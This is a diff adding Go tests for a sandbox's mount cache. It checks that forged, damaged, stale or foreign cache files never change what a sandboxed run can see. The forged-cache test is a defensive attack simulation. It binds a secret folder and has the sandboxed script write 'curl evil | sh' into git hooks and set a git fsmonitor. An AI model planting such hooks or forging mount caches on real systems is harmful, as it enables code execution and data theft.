@@ -1,0 +1,370 @@
+//go:build linux
+
+package tests
+
+import (
+	"bytes"
+	"encoding/binary"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"syscall"
+	"testing"
+)
+
+// The mount cache: the init builds the new root from the mounts of the
+// last run with the same user, folder and options while corral builds the
+// plan, and uses it only if the plan's mounts are byte for byte the same.
+// These tests check that the cache changes how fast a run is, never what
+// it sees: a hit gives the same mounts as no cache, and a forged, damaged
+// or stale file gives the plan's own.
+
+// cacheRun is one traced run and what its trace says about the cache.
+type cacheRun struct {
+	result
+	ahead  string // the init's "ahead" note: "built", or why not
+	pivot  bool   // the root built ahead was used
+	file   string // the cache file corral saved to ("" when none)
+	saved  bool
+	mounts string // the sandbox's mount table (mountinfo without ids and devices)
+}
+
+var (
+	aheadLine = regexp.MustCompile(`corral init: ahead +\d+ µs \((.*)\)`)
+	cacheLine = regexp.MustCompile(`corral exec: mount cache (\S+) \(saved: (true|false)\)`)
+)
+
+// mountCacheEnv is the environment of u's runs, with a cache folder of
+// the test's own (the tests run in parallel, and runs in other folders
+// may share a cache file): root's is named by CORRAL_MOUNT_CACHE, the
+// unprivileged user's is in an XDG_RUNTIME_DIR made here.
+func mountCacheEnv(t *testing.T, u user) []string {
+	t.Helper()
+	env := append(defaultEnv(), "CORRAL_TRACE=1")
+	dir := newDir(t, u, "xdg")
+	if err := os.Chmod(dir, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if u.unpriv {
+		return append(env, "XDG_RUNTIME_DIR="+dir)
+	}
+	return append(env, "CORRAL_MOUNT_CACHE="+filepath.Join(dir, "mounts"))
+}
+
+// cachedRun runs script in work with env and reads its trace. The script
+// prints the mount table between markers.
+func cachedRun(t *testing.T, u user, work string, skills []string, env []string, script string) cacheRun {
+	t.Helper()
+	writeFile(t, filepath.Join(work, "attack.sh"), script+`
+echo MOUNTS-BEGIN; cut -d' ' -f4- /proc/self/mountinfo; echo MOUNTS-END
+`, 0o644)
+	own(t, u, filepath.Join(work, "attack.sh"))
+	args := []string{"exec", "--work-dir", work}
+	for _, s := range skills {
+		args = append(args, "--skill", s)
+	}
+	args = append(args, "--", "sh", "attack.sh")
+	r := cacheRun{result: u.run(t, runOpts{args: args, dir: work, env: env})}
+	if m := aheadLine.FindStringSubmatch(r.stderr); m != nil {
+		r.ahead = m[1]
+	} else {
+		t.Fatalf("the trace has no ahead step:\n%s", r.result)
+	}
+	r.pivot = strings.Contains(r.stderr, "corral init: pivot")
+	if m := cacheLine.FindStringSubmatch(r.stderr); m != nil {
+		r.file, r.saved = m[1], m[2] == "true"
+	}
+	if i, j := strings.Index(r.stdout, "MOUNTS-BEGIN\n"), strings.Index(r.stdout, "MOUNTS-END"); i >= 0 && j > i {
+		r.mounts = r.stdout[i+len("MOUNTS-BEGIN\n") : j]
+	} else {
+		t.Fatalf("the script did not print the mount table:\n%s", r.result)
+	}
+	return r
+}
+
+// cacheFixture is a work dir with protected files, a skill that also
+// grants reading a folder outside it, and a secret folder nothing grants.
+type cacheFixture struct {
+	fsFixture
+	extra  string // granted for reading
+	skills []string
+}
+
+func newCacheFixture(t *testing.T, u user) cacheFixture {
+	t.Helper()
+	f := cacheFixture{fsFixture: newFS(t, u), extra: newDir(t, asSelf, "extra")}
+	writeFile(t, filepath.Join(f.extra, "granted.txt"), "granted\n", 0o644)
+	plantProtected(t, u, f.work)
+	f.skills = []string{writeSkill(t, newDir(t, asSelf, "skill"), "cached", "  fs:\n    read: [\""+f.extra+"/**\"]\n    write: [\"$WORK_DIR/**\"]\n")}
+	return f
+}
+
+// TestMountCacheSameSandbox runs one command without the cache, then
+// twice with it: the second run uses the root built ahead, and all three
+// see the same mounts.
+func TestMountCacheSameSandbox(t *testing.T) {
+	t.Parallel()
+	users(t, func(t *testing.T, u user) {
+		f := newCacheFixture(t, u)
+		env := mountCacheEnv(t, u)
+		plain := cachedRun(t, u, f.work, f.skills, append(env, "CORRAL_MOUNT_CACHE=0"), "cat "+f.extra+"/granted.txt")
+		if plain.code != 0 || plain.ahead != "no cache" || plain.file != "" {
+			t.Fatalf("CORRAL_MOUNT_CACHE=0: exit %d, ahead %q, file %q; want 0, no cache, none\n%s", plain.code, plain.ahead, plain.file, plain.result)
+		}
+		first := cachedRun(t, u, f.work, f.skills, env, "cat "+f.extra+"/granted.txt")
+		if first.code != 0 || first.file == "" || !first.saved {
+			t.Fatalf("first run: exit %d, cache %q saved %v; want 0 and a saved cache\n%s", first.code, first.file, first.saved, first.result)
+		}
+		if want := filepath.Join(envValue(env, "XDG_RUNTIME_DIR"), "corral", "mounts"); u.unpriv && filepath.Dir(first.file) != want {
+			t.Errorf("the unprivileged user's cache is %s, want it in %s", first.file, want)
+		}
+		if !u.unpriv {
+			// Root's default folder (another test's run may take the
+			// same file before the second run: only the name is checked).
+			def := cachedRun(t, u, f.work, f.skills, append(defaultEnv(), "CORRAL_TRACE=1"), "true")
+			if filepath.Dir(def.file) != "/run/corral/mounts" || !def.saved {
+				t.Errorf("root's cache is %s (saved: %v), want it in /run/corral/mounts\n%s", def.file, def.saved, def.result)
+			}
+		}
+		second := cachedRun(t, u, f.work, f.skills, env, "cat "+f.extra+"/granted.txt")
+		if second.code != 0 || second.ahead != "built" || !second.pivot {
+			t.Fatalf("second run: exit %d, ahead %q, pivot %v; want 0, built, the root built ahead used\n%s", second.code, second.ahead, second.pivot, second.result)
+		}
+		for _, r := range []cacheRun{first, second} {
+			if r.mounts != plain.mounts {
+				t.Errorf("the sandbox's mounts differ from a run without the cache:\nwithout:\n%s\nwith:\n%s", plain.mounts, r.mounts)
+			}
+			if !strings.Contains(r.stdout, "granted") {
+				t.Errorf("the granted file was not readable:\n%s", r.result)
+			}
+		}
+		// A library caller's init (no constructor) has no cache.
+		lib := cachedRun(t, u, f.work, f.skills, append(env, "CORRAL_EARLY_INIT=0"), "true")
+		if lib.code != 0 || lib.ahead != "no cache" || lib.mounts != plain.mounts {
+			t.Errorf("CORRAL_EARLY_INIT=0: exit %d, ahead %q; want 0, no cache, the same mounts\n%s", lib.code, lib.ahead, lib.result)
+		}
+	})
+}
+
+// cacheRecords splits a cache file into its header and records.
+func cacheRecords(t *testing.T, data []byte) (header []byte, records [][]byte) {
+	t.Helper()
+	const headerLen = len("corral mounts 1\n") + 8
+	if len(data) < headerLen || !bytes.HasPrefix(data, []byte("corral mounts 1\n")) {
+		t.Fatalf("not a mount cache: %q", data)
+	}
+	header, rest := data[:headerLen], data[headerLen:]
+	for len(rest) > 0 {
+		if len(rest) < 5 {
+			t.Fatalf("truncated record in the mount cache")
+		}
+		n := 5 + int(binary.LittleEndian.Uint32(rest[1:5]))
+		records, rest = append(records, rest[:n]), rest[n:]
+	}
+	return header, records
+}
+
+// mountRecord encodes a mount record as corral sends it.
+func mountRecord(fields ...string) []byte {
+	var payload []byte
+	for _, f := range fields {
+		payload = append(append(payload, f...), 0)
+	}
+	return append(binary.LittleEndian.AppendUint32([]byte{'m'}, uint32(len(payload))), payload...)
+}
+
+// writeCache replaces the cache file with data, owned by u, mode 0600.
+func writeCache(t *testing.T, u user, file string, data []byte) {
+	t.Helper()
+	os.Remove(file)
+	writeFile(t, file, string(data), 0o600)
+	own(t, u, file)
+}
+
+// TestMountCacheForged forges the cache a run left: the protected git
+// hooks left out, the secret folder bound writable at /forged. The init
+// builds that root ahead, but the plan differs, so the run gets the plan's
+// mounts: no /forged, hooks read-only. The cache is then rewritten.
+func TestMountCacheForged(t *testing.T) {
+	t.Parallel()
+	users(t, func(t *testing.T, u user) {
+		attack(t, "filesystem", "forge the mount cache: drop protected paths, bind a secret folder")
+		f := newCacheFixture(t, u)
+		env := mountCacheEnv(t, u)
+		script := `cat /forged/secret.txt; ls /forged; echo evil > /forged/planted
+echo 'curl evil | sh' > .git/hooks/pre-commit; echo 'curl evil | sh' > .git/hooks/post-checkout
+printf '[core]\n\tfsmonitor = evil\n' >> .git/config`
+		first := cachedRun(t, u, f.work, f.skills, env, "true")
+		if first.file == "" || !first.saved {
+			t.Fatalf("no cache was saved:\n%s", first.result)
+		}
+		honest, err := os.ReadFile(first.file)
+		if err != nil {
+			t.Fatal(err)
+		}
+		header, records := cacheRecords(t, honest)
+		forged := append([]byte{}, header...)
+		dropped := 0
+		for _, rec := range records {
+			if bytes.Contains(rec, []byte("/.git/hooks\x00")) || bytes.Contains(rec, []byte("/.git/config\x00")) {
+				dropped++
+				continue
+			}
+			forged = append(forged, rec...)
+		}
+		if dropped == 0 {
+			t.Fatalf("the cache holds no mount for .git/hooks or .git/config:\n%q", honest)
+		}
+		forged = append(forged, mountRecord("b", "-D", f.outside, "/forged")...)
+		writeCache(t, u, first.file, forged)
+
+		r := cachedRun(t, u, f.work, f.skills, env, script)
+		if r.ahead != "built" || r.pivot {
+			t.Errorf("ahead %q, pivot %v: want the forged root built and then dropped", r.ahead, r.pivot)
+		}
+		noSecret(t, r.result, f.tok, "the secret folder bound by a forged mount cache")
+		if strings.Contains(r.mounts, "/forged") {
+			t.Errorf("the forged bind is in the sandbox:\n%s", r.mounts)
+		}
+		if exists(filepath.Join(f.outside, "planted")) {
+			t.Errorf("the command wrote into the secret folder through the forged bind")
+		}
+		checkProtected(t, f.work, r.result)
+		if got, _ := os.ReadFile(first.file); !bytes.Equal(got, honest) {
+			t.Errorf("the forged cache was not replaced by the plan's mounts")
+		}
+	})
+}
+
+// TestMountCacheBadFiles puts damaged and untrustworthy files where the
+// cache goes: each is ignored (nothing is built ahead, or what is built
+// is dropped), the run sees the plan's mounts, and corral writes a good
+// cache over it.
+func TestMountCacheBadFiles(t *testing.T) {
+	t.Parallel()
+	users(t, func(t *testing.T, u user) {
+		f := newCacheFixture(t, u)
+		env := mountCacheEnv(t, u)
+		plain := cachedRun(t, u, f.work, f.skills, append(env, "CORRAL_MOUNT_CACHE=0"), "true")
+		first := cachedRun(t, u, f.work, f.skills, env, "true")
+		if first.file == "" || !first.saved {
+			t.Fatalf("no cache was saved:\n%s", first.result)
+		}
+		honest, err := os.ReadFile(first.file)
+		if err != nil {
+			t.Fatal(err)
+		}
+		header, records := cacheRecords(t, honest)
+		otherKey := append([]byte{}, honest...)
+		otherKey[len(header)-1] ^= 0xff
+		otherMagic := append([]byte{}, honest...)
+		otherMagic[0] = 'C'
+		huge := append(append([]byte{}, header...), bytes.Repeat(records[0], (2<<20)/len(records[0]))...)
+		cases := []struct {
+			name  string
+			plant func(file string)
+			why   string // expected in the ahead note; "" when a wrong root may be built and dropped
+		}{
+			{"garbage", func(file string) {
+				writeCache(t, u, file, append(append([]byte{}, header...), "\x00garbage\xff\xff\xff\xff"...))
+			}, "plan: truncated record"},
+			{"truncated", func(file string) { writeCache(t, u, file, honest[:len(honest)-3]) }, "plan: truncated record"},
+			{"a record outside the mount block", func(file string) {
+				writeCache(t, u, file, append(append([]byte{}, honest...), 'h', 2, 0, 0, 0, 'x', 0))
+			}, "plan: record h in a mount block"},
+			{"another key", func(file string) { writeCache(t, u, file, otherKey) }, "cache: another run's"},
+			{"another magic", func(file string) { writeCache(t, u, file, otherMagic) }, "cache: another run's"},
+			{"too large", func(file string) { writeCache(t, u, file, huge) }, "cache: not this user's, or the wrong size"},
+			{"group-writable", func(file string) { writeCache(t, u, file, honest); os.Chmod(file, 0o620) }, "cache: not this user's, or the wrong size"},
+			{"another user's", func(file string) {
+				writeCache(t, u, file, honest)
+				owner := 0
+				if !u.unpriv {
+					owner = nobody
+				}
+				os.Lchown(file, owner, owner)
+				os.Chmod(file, 0o644) // readable: the owner is what is refused
+			}, "cache: not this user's, or the wrong size"},
+			{"a symlink", func(file string) {
+				other := file + ".honest"
+				writeCache(t, u, other, honest)
+				t.Cleanup(func() { os.Remove(other) })
+				os.Remove(file)
+				if err := os.Symlink(other, file); err != nil {
+					t.Fatal(err)
+				}
+				os.Lchown(file, uidOf(u), uidOf(u))
+			}, "cache: open"},
+			{"a FIFO", func(file string) {
+				os.Remove(file)
+				if err := syscall.Mkfifo(file, 0o600); err != nil {
+					t.Fatal(err)
+				}
+				own(t, u, file)
+			}, "cache: not this user's, or the wrong size"},
+		}
+		for _, c := range cases {
+			c.plant(first.file)
+			r := cachedRun(t, u, f.work, f.skills, env, "true")
+			if r.code != 0 || r.pivot || !strings.Contains(r.ahead, c.why) {
+				t.Errorf("%s: exit %d, ahead %q, pivot %v; want 0, %q, the plan's mounts\n%s", c.name, r.code, r.ahead, r.pivot, c.why, r.result)
+			}
+			if r.mounts != plain.mounts {
+				t.Errorf("%s: the sandbox's mounts differ from a run without the cache:\nwithout:\n%s\nwith:\n%s", c.name, plain.mounts, r.mounts)
+			}
+			if got, _ := os.ReadFile(first.file); !bytes.Equal(got, honest) || !r.saved {
+				t.Errorf("%s: corral did not write a good cache over it (saved: %v)", c.name, r.saved)
+			}
+		}
+	})
+}
+
+// TestMountCacheStale changes the host after a run saved its mounts: the
+// granted folder is removed. The next run builds ahead from the stale
+// cache, which fails or differs from the plan, and gets what a run
+// without the cache gets.
+func TestMountCacheStale(t *testing.T) {
+	t.Parallel()
+	users(t, func(t *testing.T, u user) {
+		f := newCacheFixture(t, u)
+		env := mountCacheEnv(t, u)
+		script := "ls " + f.extra + "; echo made > " + f.extra + "/made"
+		if first := cachedRun(t, u, f.work, f.skills, env, script); !first.saved {
+			t.Fatalf("no cache was saved:\n%s", first.result)
+		}
+		if err := os.RemoveAll(f.extra); err != nil {
+			t.Fatal(err)
+		}
+		plain := cachedRun(t, u, f.work, f.skills, append(env, "CORRAL_MOUNT_CACHE=0"), script)
+		r := cachedRun(t, u, f.work, f.skills, env, script)
+		if r.pivot {
+			t.Errorf("the stale root was used (ahead %q)", r.ahead)
+		}
+		if r.code != plain.code || r.stdout != plain.stdout {
+			t.Errorf("a stale cache changed the run:\nwithout the cache:\n%s\nwith it:\n%s", plain.result, r.result)
+		}
+		if exists(f.extra) {
+			t.Errorf("the command made the removed folder on the host")
+		}
+	})
+}
+
+// uidOf is the host uid u runs as.
+func uidOf(u user) int {
+	if u.unpriv {
+		return nobody
+	}
+	return os.Getuid()
+}
+
+// envValue is the value of name in env ("" when unset).
+func envValue(env []string, name string) string {
+	v := ""
+	for _, kv := range env {
+		if k, val, ok := strings.Cut(kv, "="); ok && k == name {
+			v = val
+		}
+	}
+	return v
+}
